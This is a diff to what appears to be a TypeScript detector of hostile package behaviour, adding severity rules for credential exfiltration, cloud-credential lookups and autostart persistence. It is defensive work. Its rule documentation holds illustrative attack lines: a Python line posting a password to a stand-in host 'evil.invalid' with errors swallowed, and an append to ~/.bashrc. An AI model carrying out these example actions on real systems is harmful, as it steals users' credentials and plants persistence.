@@ -1,17 +1,29 @@
 import { WHEN, describeLabels, isPure, isUnasked, type Combination } from './combination.js';
 import { hasRandomLabel, isAccount, isCallback, isCollecting } from './collecting-places.js';
-import { CARRIERS } from './commands.js';
+import { CARRIERS, isHostile } from './commands.js';
 import type { Sighting } from './machine-parts.js';
 import { ACCOUNT_HOST } from './sinks.js';
 import type { Label } from './value.js';
 
 export const IDENTITY: readonly Label[] = ['hostname', 'username', 'directory', 'address'];
-const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'process-output'];
+const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'intercepted', 'process-output'];
 /** An account of a crypto-currency, as a text of its own. */
 const PAYMENT_ADDRESS = /^(?:bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13LDT][1-9A-HJ-NP-Za-km-z]{25,34})$/;
 
 /** An address with a piece that is not known. */
 const COMPOSED = /https?:\/\/\S*\uFFFC/i;
+
+/** An account of a messenger that the source does not name: whoever calls does. */
+const OPEN_ACCOUNT = /(?:\/bot|webhooks\/|services\/)\uFFFC/;
+
+const LOOKUP = /^(?:socket\.get|dns\.)/;
+
+/** Interfaces of the clouds that give a machine its credentials. */
+const CLOUDS =
+  /(?:^|\.)(?:googleapis\.com|amazonaws\.com|azure\.(?:com|net)|windows\.net|microsoftonline\.com)$/;
+
+/** What a machine was told by its cloud goes back to it. */
+const isOwnCloud = ({ labels, host }: Sighting): boolean => labels.has('network') && CLOUDS.test(host ?? '');
 
 const DOMAIN = /[\w-]+\.[a-z]{2,}\b/i;
 
@@ -48,10 +60,11 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       if (!isStolen && !labels.has('user-file')) return undefined;
       if (isUnasked(reach)) return 'HIGH';
       if (labels.has('parameter') || !isStolen) return 'LOW';
+      if (labels.has('capture')) return 'HIGH';
       const isStrict =
-        isCallback(text ?? '') ||
+        (isCallback(text ?? '') && !OPEN_ACCOUNT.test(text ?? '')) ||
         (labels.has('environment') && isCollecting(text ?? '')) ||
-        (labels.has('secret') && labels.has('secret-path')) ||
+        (labels.has('secret') && labels.has('secret-path') && !isOwnCloud(sighting)) ||
         (labels.has('environment') && (labels.has('hostname') || labels.has('username')));
       return isStrict ? 'CRITICAL' : 'LOW';
     },
@@ -152,6 +165,23 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
   },
   {
     doc: {
+      id: 'credential-sent-aside',
+      title: 'Sends a password, key or token somewhere and does not wait for an answer',
+      why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
+      remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
+      example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
+      technique: 'T1056',
+    },
+    judge: ({ behaviour, labels, host, aside, name, text }) => {
+      if (behaviour !== 'contacts' || host === undefined || aside !== true) return undefined;
+      // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
+      if (LOOKUP.test(name) && (text ?? '').startsWith('\uFFFC')) return 'HIGH';
+      return labels.has('credential') || labels.has('secret') ? 'MEDIUM' : undefined;
+    },
+    message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
+  },
+  {
+    doc: {
       id: 'autostart-written',
       title: 'Makes itself start again',
       why: 'Entries in autostart folders, shell profiles, cron, the registry or files of other programs keep code running after the package is removed.',
@@ -159,9 +189,10 @@ export const EXIT_COMBINATIONS: readonly Combination[] = [
       example: 'open(os.path.expanduser("~/.bashrc"), "a").write(line)',
       technique: 'T1547',
     },
-    judge: ({ behaviour, labels, reach }) => {
+    judge: ({ behaviour, labels, reach, host, text }) => {
       if (behaviour !== 'writes-autostart') return undefined;
-      if (isUnasked(reach)) return 'CRITICAL';
+      if (isUnasked(reach) || isHostile(text ?? '')) return 'CRITICAL';
+      if (labels.has('network') && host !== undefined && !labels.has('parameter')) return 'CRITICAL';
       return labels.has('decoded') && isPure(labels) ? 'CRITICAL' : 'LOW';
     },
     message: ({ name, reach }) => `${name} writes to a place that starts programs ${WHEN[reach]}`,
